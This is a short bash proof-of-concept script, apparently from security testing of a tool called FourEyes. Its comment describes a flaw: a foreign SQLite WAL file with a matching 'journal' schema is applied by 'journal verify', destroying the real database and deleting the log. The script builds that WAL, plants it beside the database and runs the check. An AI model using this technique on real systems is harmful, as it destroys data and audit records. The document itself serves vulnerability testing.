#!/bin/bash
# HOLE: a foreign WAL whose schema has a `journal` table with FourEyes' six column names is applied by `journal verify`
# to a real FourEyes database (which is destroyed) and the log deleted; the error names no file.
F=/work/attack39/foureyes; D=/tmp/attack39/fw; rm -rf $D; mkdir -p $D; cd $D
$F --db fe.db token create --name alice --role admin >/dev/null 2>&1
$F --db fe.db journal verify; ls -l fe.db*
python3 - <<'PY'
import sqlite3, shutil
c = sqlite3.connect("other.db", isolation_level=None)
c.execute("pragma journal_mode=wal"); c.execute("pragma wal_autocheckpoint=0")
c.execute("create table journal(seq INTEGER PRIMARY KEY, ts_ms INTEGER NOT NULL, kind TEXT NOT NULL, data TEXT NOT NULL, prev_hash TEXT NOT NULL, hash TEXT NOT NULL)")
c.execute("create table secrets(x)"); c.execute("insert into secrets values('their data')")
shutil.copy("other.db-wal", "fe.db-wal")
PY
rm -f other.db*
ls -l fe.db*; $F --db fe.db journal verify; echo "verify rc=$?"
ls -l fe.db*; sqlite3 fe.db "select name from sqlite_master; select count(*) from journal; select * from secrets"
